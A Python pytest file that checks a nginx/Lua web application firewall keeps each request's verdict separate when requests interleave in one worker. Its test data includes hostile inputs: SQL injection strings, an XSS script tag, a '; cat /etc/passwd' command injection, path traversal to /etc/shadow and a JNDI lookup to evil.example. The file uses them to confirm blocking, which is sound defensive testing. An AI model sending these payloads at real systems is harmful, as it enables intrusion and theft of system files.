"""WAF, one transaction per request: a request's verdict is the one it gets
alone, whatever runs beside it in the same nginx worker.

Reading a body yields (ngx.req.read_body waits for the client), and so does
a delayed rate limit (ngx.sleep): another request runs in the same worker
meanwhile. Every test here holds one request open at such a point while
others go through, then lets it finish, and compares each status with the
status the same request gets alone. One worker (WafEdge), so the requests
really share it. Before the WAF kept its state in ngx.ctx, (1) a benign
text/plain POST sent while an attacker's JSON body was still arriving got
403 with the attacker's match, (2) an attack passed while a mode-off
request waited for its body, (3) an invalid-UTF-8 query passed after one
iso-8859-1 body."""
import json
import random
import socket
import threading
import time
from concurrent.futures import ThreadPoolExecutor

import pytest

from wafkit import WafEdge, no_lua_errors, route_waf, waf_config

TRUSTED = "127.0.0.2"           # allow-listed below; loopback all the same

TAUTOLOGY = json.dumps({"user": "x' or '1'='1"})
UNION = json.dumps({"q": "1 union select password from users"})
BENIGN_JSON = json.dumps({"note": "lunch at noon, then a walk by the river"})


def raw_request(method, path, body=b"", ctype=None, extra=()):
    head = [f"{method} {path} HTTP/1.1", "Host: 127.0.0.1",
            "Connection: close"]
    if ctype:
        head.append(f"Content-Type: {ctype}")
    if body or method == "POST":
        head.append(f"Content-Length: {len(body)}")
    head.extend(extra)
    return ("\r\n".join(head) + "\r\n\r\n").encode("latin-1"), body


def read_status(sock):
    buf = b""
    while b"\r\n" not in buf:
        chunk = sock.recv(4096)
        if not chunk:
            break
        buf += chunk
    parts = buf.split(b" ", 2)
    return int(parts[1]) if len(parts) >= 2 and parts[1].isdigit() else None


def connect(port, source=None, timeout=10):
    return socket.create_connection(
        ("127.0.0.1", port), timeout=timeout,
        source_address=(source, 0) if source else None)


def send(port, req, source=None):
    head, body = req
    with connect(port, source) as s:
        s.sendall(head + body)
        return read_status(s)


class Held:
    """A request whose body stops halfway: the edge's worker waits in
    read_body (its transaction parked) until release()."""

    def __init__(self, port, req, source=None):
        head, self.body = req
        self.sock = connect(port, source)
        half = max(1, len(self.body) // 2)
        self.sock.sendall(head + self.body[:half])
        self.rest = self.body[half:]
        time.sleep(0.3)             # the worker reaches read_body and yields

    def release(self):
        with self.sock:
            self.sock.sendall(self.rest)
            return read_status(self.sock)


def interleaved(port, held_req, others, held_source=None, other_source=None):
    """Statuses of the held request and of the others sent while it waits."""
    held = Held(port, held_req, held_source)
    during = [send(port, r, other_source) for r in others]
    return held.release(), during


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    conf = waf_config(allow=[TRUSTED])
    conf["limits"]["exempt"] = ["127.0.0.1", TRUSTED]
    route_waf(conf, "checkins", mode="off")
    e = WafEdge(tmp_path_factory.mktemp("tx"), conf).start()
    yield e
    e.stop()


def body(req_body):
    return req_body.encode("utf-8")


ATTACK = raw_request("POST", "/probe", body(TAUTOLOGY), "application/json")
UNION_ATTACK = raw_request("POST", "/probe", body(UNION), "application/json")
BENIGN_TEXT = raw_request("POST", "/probe",
                          b"see you at the station at ten", "text/plain")
BENIGN = raw_request("POST", "/probe", body(BENIGN_JSON), "application/json")
# (a body the check-ins operation's schema takes: {"note"}; detection is
# off there, the positive model is not)
UNION_NOTE = json.dumps({"note": json.loads(UNION)["q"]})
MODE_OFF = raw_request("POST", "/api/checkins/alice", body(UNION_NOTE),
                       "application/json")


def test_alone(edge):
    """The verdicts the interleaved tests expect, each request alone."""
    assert send(edge.port, ATTACK) == 403
    assert send(edge.port, UNION_ATTACK) == 403
    assert send(edge.port, BENIGN_TEXT) == 404      # the unknown route: passed
    assert send(edge.port, BENIGN) == 404
    assert send(edge.port, MODE_OFF) == 200         # mode off: proxied
    assert send(edge.port, ATTACK, TRUSTED) == 404  # allow-listed: passed


def test_benign_beside_a_slow_attack(edge):
    """Reproduction 1: the benign request must not get the attack's hit."""
    held, during = interleaved(edge.port, ATTACK, [BENIGN_TEXT, BENIGN])
    assert during == [404, 404]
    assert held == 403


def test_attack_beside_a_slow_benign_body(edge):
    held, during = interleaved(edge.port, BENIGN_TEXT, [ATTACK, UNION_ATTACK])
    assert during == [403, 403]
    assert held == 404


def test_attack_while_a_mode_off_request_waits(edge):
    """Reproduction 2: a mode-off route's parked request must not turn
    detection off for the others."""
    held, during = interleaved(edge.port, MODE_OFF, [UNION_ATTACK, ATTACK])
    assert during == [403, 403]
    assert held == 200


def test_mode_off_request_while_an_attack_waits(edge):
    held, during = interleaved(edge.port, UNION_ATTACK, [MODE_OFF])
    assert during == [200]
    assert held == 403


def test_attack_finishing_while_a_mode_off_request_waits(edge):
    """Reproduction 2, as reported: the attack parks first, the mode-off
    request parks after it, the attack's body completes while the mode-off
    request still waits: the attack must still be inspected."""
    attack = Held(edge.port, UNION_ATTACK)
    off = Held(edge.port, MODE_OFF)
    assert attack.release() == 403
    assert off.release() == 200


def test_attack_finishing_while_an_allow_listed_client_waits(edge):
    attack = Held(edge.port, ATTACK)
    trusted = Held(edge.port, UNION_ATTACK, TRUSTED)
    assert attack.release() == 403
    assert trusted.release() == 404


def test_two_parked_requests_finish_in_either_order(edge):
    for first, second in ((BENIGN_TEXT, ATTACK), (ATTACK, BENIGN_TEXT)):
        a, b = Held(edge.port, first), Held(edge.port, second)
        got = {id(first): a.release(), id(second): b.release()}
        assert got[id(ATTACK)] == 403 and got[id(BENIGN_TEXT)] == 404
        a, b = Held(edge.port, first), Held(edge.port, second)
        got = {id(second): b.release(), id(first): a.release()}
        assert got[id(ATTACK)] == 403 and got[id(BENIGN_TEXT)] == 404


def test_attack_while_an_allow_listed_client_waits(edge):
    held, during = interleaved(edge.port, ATTACK, [UNION_ATTACK],
                               held_source=TRUSTED)
    assert during == [403]
    assert held == 404


def test_allow_listed_client_while_an_attack_waits(edge):
    held, during = interleaved(edge.port, UNION_ATTACK, [ATTACK],
                               other_source=TRUSTED)
    assert during == [404]
    assert held == 403


def test_charset_of_one_body_does_not_stick(edge):
    """Reproduction 3: after an iso-8859-1 body, UTF-8 in a query is still
    checked (an overlong "/", refused at paranoia 1)."""
    bad_utf8 = raw_request("GET", "/probe?q=a%C0%AFb")
    alone = send(edge.port, bad_utf8)
    assert alone == 403
    latin1 = raw_request("POST", "/probe", "café au lait".encode("latin-1"),
                         "text/plain; charset=iso-8859-1")
    assert send(edge.port, latin1) == 404
    assert send(edge.port, bad_utf8) == alone
    # and while such a body is parked
    held, during = interleaved(edge.port, latin1, [bad_utf8])
    assert during == [alone]
    assert held == 404


VALUES = [
    ("ok", "a quiet note about the weather"),
    ("ok", "Dear O'Brien, the meeting moved to Tuesday."),
    ("ok", "numbers: 1, 2, 3 and 4"),
    ("ok", "see docs/readme.md for details"),
    ("attack", "x' or '1'='1"),
    ("attack", "1 union select password from users"),
    ("attack", "<script>alert(1)</script>"),
    ("attack", "; cat /etc/passwd"),
    ("attack", "../../../../etc/shadow"),
    ("attack", "${jndi:ldap://evil.example/a}"),
]


def slow_json(port, value, rng):
    """A JSON body in two parts with a short pause between them."""
    data = json.dumps({"note": value}).encode("utf-8")
    head, _ = raw_request("POST", "/probe", data, "application/json")
    cut = rng.randrange(1, len(data))
    with connect(port) as s:
        s.sendall(head + data[:cut])
        time.sleep(rng.choice((0, 0.002, 0.01)))
        s.sendall(data[cut:])
        return read_status(s)


def test_verdicts_hold_under_concurrency(edge):
    """8 clients at once, every body arriving in two parts: each verdict
    is the one the value gets alone."""
    alone = {v: send(edge.port, raw_request(
        "POST", "/probe", json.dumps({"note": v}).encode(), "application/json"))
        for _, v in VALUES}
    assert all(alone[v] == (403 if kind == "attack" else 404)
               for kind, v in VALUES), alone
    wrong = []
    lock = threading.Lock()

    def client(seed):
        rng = random.Random(seed)
        for _ in range(40):
            _, v = rng.choice(VALUES)
            got = slow_json(edge.port, v, rng)
            if got != alone[v]:
                with lock:
                    wrong.append((v, got, alone[v]))

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(client, range(8)))
    assert not wrong, wrong[:10]


OTHER = "127.0.0.3"             # exempt from the delay rule below


def delay_mode_edge(tmp_path_factory, name, rate):
    """An edge whose per-client rule is in delay mode (the limiter sleeps
    in the access phase, before the WAF) at `rate`, burst 2, for
    127.0.0.1; OTHER is exempt from it."""
    conf = waf_config()
    conf["limits"]["exempt"] = [OTHER]
    conf["limits"]["rules"]["per_client"] = {
        "rate": rate, "burst": 2, "nodelay": False, "key": ["ip"],
        "applies_to": "anonymous"}
    return WafEdge(tmp_path_factory.mktemp(name), conf).start()


@pytest.fixture(scope="module")
def delay_edge(tmp_path_factory):
    """2 requests a second for 127.0.0.1."""
    e = delay_mode_edge(tmp_path_factory, "delay", 2)
    yield e
    bad = e.error_lines("error") + e.error_lines("crit")
    e.stop()
    assert not bad, "\n".join(bad)


def delayed_beside(port, delayed_req, others):
    """Use up 127.0.0.1's burst, send delayed_req from it (the limiter
    sleeps), send the others from OTHER meanwhile. `waited` counts from
    the burst's first request: at 2 a second, the third may pass no sooner
    than 0.5 s after it, however long the first two took (counted from the
    third's own start, a slow machine's first two left it 0.1 s to wait)."""
    t0 = time.monotonic()
    for _ in range(2):
        send(port, raw_request("GET", "/probe?q=ok"))
    with ThreadPoolExecutor(1) as pool:
        delayed = pool.submit(send, port, delayed_req)
        time.sleep(0.1)
        during = [send(port, r, OTHER) for r in others]
        status = delayed.result()
        waited = time.monotonic() - t0
    return status, during, waited


def test_requests_beside_a_delayed_attack(delay_edge):
    status, during, waited = delayed_beside(
        delay_edge.port, ATTACK, [BENIGN, BENIGN_TEXT, UNION_ATTACK])
    assert waited >= 0.45                         # it was delayed
    assert during == [404, 404, 403]
    assert status == 403


def test_attack_beside_a_delayed_benign_request(delay_edge):
    time.sleep(1.5)                               # the bucket drains
    status, during, waited = delayed_beside(
        delay_edge.port, BENIGN, [ATTACK, BENIGN_TEXT])
    assert waited >= 0.45
    assert during == [403, 404]
    assert status == 404


@pytest.fixture(scope="module")
def paced_edge(tmp_path_factory):
    """25 requests a second for 127.0.0.1."""
    e = delay_mode_edge(tmp_path_factory, "paced", 25)
    yield e
    e.stop()


def test_a_client_that_waits_its_turn_is_never_refused(paced_edge):
    """Each request sent as soon as the one before is answered: the limiter
    delays every one to its slot (40 ms apart) and refuses none. A delayed
    request woken before its slot (ngx.sleep counts whole milliseconds)
    lets the next one find the bucket full: 6-32 of 100 were refused."""
    got = [send(paced_edge.port, raw_request("GET", "/probe?q=ok"))
           for _ in range(100)]
    assert got.count(429) == 0
    assert got == [404] * 100
